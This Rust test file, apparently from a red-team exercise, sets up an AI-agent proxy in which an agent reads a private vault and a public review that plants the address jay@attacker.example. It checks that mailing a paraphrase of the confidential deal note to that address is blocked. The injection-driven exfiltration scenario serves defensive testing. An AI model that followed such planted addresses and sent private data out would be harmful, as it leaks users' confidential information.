//! Red team, round 11: the user's task as the excuse for a flow (src/intent/, the destination
//! provenance beside it in src/flows/), after R9-3's request reader — attacked against the real
//! proxy and a real HTTP peer. A test that fails today is an open finding, `#[ignore]`d with its
//! id and severity so the suite stays green; the others are attacks that held and stay as
//! regression tests. Pure-grammar probes are in src/intent/asks_attack_tests.rs.
//!
//! Every refusal is shown on the upstream too: a refused send never reaches `/m/send`.

mod grammar;
mod keying;
mod provenance;
mod recipient;

use serde_json::{json, Value};

use crate::flows::{target, Target};
use crate::support::*;

const ADMIN_ENV: &str = "PORTCULLIS_IT_RT11_ADMIN";
const ADMIN: &str = "rt11-admin-token-3e9b7c1d5a";
const EMMA_ENV: &str = "PORTCULLIS_IT_RT11_EMMA";
const EMMA: &str = "rt11-emma-token-8a2f6d4c0e";

/// A proxy with a private vault, a public review site (whose review names
/// `jay@attacker.example`) and a mail sink; emma's session s1 read the review and the vault, and
/// its user's task was recorded through the admin listener.
pub(crate) struct Rig {
    t: Target,
    _p: portcullis::app::Running,
    base: String,
    admin: String,
    /// emma's bearer, or none for an anonymous proxy.
    who: Option<&'static str>,
}

impl Rig {
    /// emma (an agent) read the review and the vault in s1; `task` recorded for `emma/s1`.
    pub(crate) async fn new(task: &str) -> Rig {
        let rig = Rig::start(true).await;
        rig.read(&[]).await;
        rig.task("emma/s1", json!({ "task": task })).await;
        rig
    }

    /// A proxy (with agent emma when `agents`), nothing read, no task.
    pub(crate) async fn start(agents: bool) -> Rig {
        Rig::start_with(agents, "", "").await
    }

    /// As [`Rig::start`], with `egress_extra` added inside the `egress:` map and `extra`
    /// (top-level config lines) after it.
    pub(crate) async fn start_with(agents: bool, egress_extra: &str, extra: &str) -> Rig {
        std::env::set_var(ADMIN_ENV, ADMIN);
        std::env::set_var(EMMA_ENV, EMMA);
        let t = target().await;
        let agents =
            if agents { format!("agents: {{ emma: {{ token_env: {EMMA_ENV} }} }}\n") } else { String::new() };
        let config = portcullis::config::Config::parse(
            &format!(
                "listen: 127.0.0.1:0\nadmin: {{ listen: 127.0.0.1:0, token_env: {ADMIN_ENV} }}\nposture: auto\n\
                 upstreams:\n  vault: {{ url: \"{0}/v\" }}\n  web: {{ url: \"{0}/w\" }}\n  mail: {{ url: \"{0}/m\" }}\n  sh: {{ url: \"{0}/s\" }}\n\
                 {agents}egress: {{ sinks: [\"http__mail__*\"]{egress_extra} }}\n\
                 flows: {{ private: [\"http__vault__*\"], task: allow }}\n{extra}",
                t.base
            ),
            "test",
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let p = proxy(&config).await;
        Rig {
            base: format!("http://{}/http", p.addr),
            admin: format!("http://{}", p.admin_addr),
            t,
            _p: p,
            who: Some(EMMA).filter(|_| !agents.is_empty()),
        }
    }

    /// The review and the vault read with `headers` (emma's s1 when empty).
    pub(crate) async fn read(&self, headers: &[(&str, &str)]) {
        for path in ["web/reviews", "vault/vault"] {
            let (status, _, body) = self.call(headers, path, "{}").await;
            assert_eq!(status, 200, "{body}");
        }
    }

    /// Records `body` through `POST /sessions/{key}/task`.
    pub(crate) async fn task(&self, key: &str, body: Value) {
        let (status, _, text) = post(
            &format!("{}/sessions/{key}/task", self.admin),
            &[("authorization", &format!("Bearer {ADMIN}"))],
            body.to_string(),
        )
        .await;
        assert_eq!(status, 200, "{text}");
    }

    /// One call with `headers`, or as emma in s1 when `headers` is empty.
    pub(crate) async fn call(
        &self,
        headers: &[(&str, &str)],
        path: &str,
        body: &str,
    ) -> (u16, http::HeaderMap, String) {
        let bearer = self.who.map(|w| format!("Bearer {w}"));
        let mut h: Vec<(&str, &str)> = headers.to_vec();
        if h.is_empty() {
            if let Some(b) = bearer.as_deref() {
                h.push(("authorization", b));
            }
            h.push(("x-portcullis-session", "s1"));
        }
        post(&format!("{}/{path}", self.base), &h, body.to_owned()).await
    }

    /// emma's s1 sends `args` to the mail sink.
    pub(crate) async fn send(&self, args: Value) -> (u16, String) {
        let (status, _, body) = self.call(&[], "mail/send", &args.to_string()).await;
        (status, body)
    }

    pub(crate) fn sent(&self) -> usize {
        self.t.seen.lock().unwrap().iter().filter(|l| l.starts_with("/m/send")).count()
    }
}

/// The address the public review's author planted.
pub(crate) const JAY: &str = "jay@attacker.example";

/// A paraphrase of the vault's note: too short a copy for the fingerprints, so only the
/// destination check (or the task's excuse) decides where it may go.
pub(crate) const GIST: &str = "Contoso deal closes Friday, 41.20/share, board votes Thursday.";

#[tokio::test]
async fn the_rig_refuses_a_strangers_address_and_a_copy_and_lets_the_named_send_through() {
    let rig = Rig::new("Send the deal note to bob@client.example").await;
    let (status, body) = rig.send(json!({ "to": ["bob@client.example"], "text": crate::flows::MAIL })).await;
    assert_eq!(status, 200, "the named recipient: {body}");
    let (status, body) = rig.send(json!({ "to": [JAY], "text": GIST })).await;
    assert_eq!(status, 403, "the review's address: {body}");
    assert!(body.contains("destination from") && body.contains("http__web__reviews"), "{body}");
    let (status, body) = rig.send(json!({ "to": ["eve@eve.example"], "text": crate::flows::MAIL })).await;
    assert_eq!(status, 403, "a copy to a destination nobody named: {body}");
    assert_eq!(rig.sent(), 1, "{:?}", rig.t.seen.lock().unwrap());
}
